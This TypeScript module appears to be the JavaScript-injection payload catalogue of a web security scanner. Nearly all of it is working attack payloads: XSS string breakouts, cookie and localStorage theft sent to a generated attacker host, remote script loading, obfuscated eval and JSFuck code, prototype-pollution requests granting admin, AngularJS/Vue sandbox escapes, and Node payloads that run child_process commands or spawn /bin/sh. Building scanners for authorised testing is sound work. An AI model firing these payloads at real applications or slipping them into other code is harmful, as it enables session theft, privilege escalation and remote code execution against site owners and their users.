import { getMessage, postMessage } from '../message.ts';
import { dataPlaces, loggedPlaces } from '../places.ts';
import { attackerHost, type TechniqueFamily } from '../technique.ts';

export const javascriptTechniques: TechniqueFamily = {
  about: 'a string of a script in the page, or code that the server runs',
  places: [...dataPlaces, ...loggedPlaces],
  fields: ['name', 'callback', 'q', 'lang', 'theme', 'message'],
  techniques: {
    'out of a string': {
      does: 'Ends a string of a script and calls a function',
      needs: 'any browser',
      values: () => [
        "';alert(1)//",
        '"-alert(2)-"',
        "'+confirm(3)+'",
        "\\';alert(4)//",
        '"};alert(5);//',
        "');prompt(6);//",
        '`-alert(7)-`',
        '"]);alert(8);([("',
        "red';top.location='//evil.example/';'",
        "'};(()=>{alert(9)})();{'",
      ],
    },
    'reading the session': {
      does: 'Sends cookies or stored data to another host',
      needs: 'any browser',
      values: (random) => [
        `';fetch('//${attackerHost(random)}/?c='+document.cookie)//`,
        `new Image().src='//${attackerHost(random)}/?'+document.cookie`,
        `"+(location='//${attackerHost(random)}/'+document.cookie)+"`,
        `navigator.sendBeacon('//${attackerHost(random)}',localStorage.token)`,
        `';document.location='http://${attackerHost(random)}/'+btoa(document.cookie);'`,
        `x=new XMLHttpRequest;x.open('GET','//${attackerHost(random)}/?'+document.cookie);x.send()`,
      ],
    },
    'computed names': {
      does: 'Reaches functions by names that are put together',
      needs: 'any browser',
      values: () => [
        "top['al'+'ert'](1)",
        'window["\\x61lert"](2)',
        "self[atob('YWxlcnQ=')](3)",
        'this[/al/.source+/ert/.source](4)',
        "globalThis['ev'+'al']('1')",
        "parent[['al','ert'].join('')](5)",
        'frames[8680439..toString(30)](6)',
        "';window['doc'+'ument']['coo'+'kie'];'",
      ],
    },
    'code from text': {
      does: 'Runs a text as code',
      needs: 'any browser',
      values: (random) => [
        "eval(atob('YWxlcnQoMSk='))",
        "Function('alert(1)')()",
        "setTimeout('alert(2)',9)",
        `import('//${attackerHost(random)}/x.js')`,
        "[].constructor.constructor('alert(3)')()",
        '";eval(location.hash.slice(1))//',
        'new Function`alert\\x284\\x29```',
        'eval(String.fromCharCode(97,108,101,114,116,40,53,41))',
        "(function(){}).constructor('return alert(6)')()",
        `document.body.appendChild(document.createElement('script')).src='//${attackerHost(random)}'`,
      ],
    },
    'without parentheses': {
      does: 'Calls a function without parentheses',
      needs: 'any browser',
      values: () => [
        'onerror=alert;throw 1',
        'alert`2`',
        "{onerror=eval}throw'=alert\\x283\\x29'",
        "';location=name//",
        'valueOf=alert;window+4',
        "'-setTimeout`alert\\u00285\\u0029`-'",
        'Set.constructor`alert\\x286\\x29```',
      ],
    },
    'empty lists': {
      does: 'Builds code from operations on empty lists and objects',
      needs: 'any browser',
      values: () => [
        '[][(![]+[])[+!+[]]+(!![]+[])[+[]]][([][(![]+[])[+!+[]]+(!![]+[])[+[]]]+[])[!+[]+!+[]+!+[]]+(!![]+[])[+!+[]]]()',
        "$=~[];$={___:++$,$$$$:(![]+'')[$],__$:++$,$_$_:(![]+'')[$]};$.$_=($.$_=$+'')[$.$_$];",
        '(+[![]]+[+(+!+[]+(!+[]+[])[!+[]+!+[]+!+[]]+[+!+[]]+[+[]]+[+[]]+[+[]])])[+!+[]+[+[]]]',
        '_=[]|[];$=_++;__=(_<<_);___=(_<<_)+_;____=__+__;',
      ],
    },
    'prototype of all objects': {
      does: 'Names a field so that it lands on the prototype of all objects',
      needs: 'Node or scripts of the page',
      requests: () => [
        getMessage('/search?__proto__[isAdmin]=true'),
        getMessage('/search?__proto__.innerHTML=%3Cimg%20src%20onerror%3Dalert(1)%3E'),
        getMessage('/search?constructor[prototype][role]=admin'),
        postMessage(
          '/api/settings',
          'application/json',
          '{"theme":"dark","__proto__":{"isAdmin":true}}',
        ),
        postMessage(
          '/api/settings',
          'application/json',
          '{"constructor":{"prototype":{"shell":"/proc/self/exe"}}}',
        ),
        postMessage('/settings', 'application/x-www-form-urlencoded', '__proto__%5Bouts%5D=1&x=2'),
        postMessage(
          '/api/merge',
          'application/json',
          '{"a":{"b":{"__proto__":{"execArgv":["--eval=1"]}}}}',
        ),
      ],
    },
    'client-side templates': {
      does: 'Leaves the sandbox of AngularJS or Vue templates',
      needs: 'AngularJS, Vue',
      values: () => [
        "{{constructor.constructor('alert(1)')()}}",
        "{{$on.constructor('alert(2)')()}}",
        "{{_c.constructor('alert(3)')()}}",
        "{{'a'.constructor.prototype.charAt=[].join;$eval('x=alert(4)')}}",
        '{{toString.constructor.prototype.toString=toString.constructor.prototype.call;["a","alert(5)"].sort(toString.constructor)}}',
        "<div v-html=\"''.constructor.constructor('alert(6)')()\"></div>",
        '<p ng-init="constructor.constructor(\'alert(7)\')()"></p>',
      ],
    },
    'code on the server': {
      does: 'Runs commands or reads files in Node',
      needs: 'Node and an application that evaluates the value',
      values: () => [
        "require('child_process').exec('id')",
        "process.mainModule.require('fs').readFileSync('/etc/hostname')",
        "';require('child_process').execSync('whoami').toString();'",
        "global.process.mainModule.constructor._load('child_process').exec('id')",
        "process.binding('spawn_sync').spawn({file:'/bin/sh'})",
        "res.end(require('fs').readdirSync('.').toString())",
        "(()=>{throw require('os').hostname()})()",
        "this.constructor.constructor('return process')().exit()",
      ],
    },
  },
};
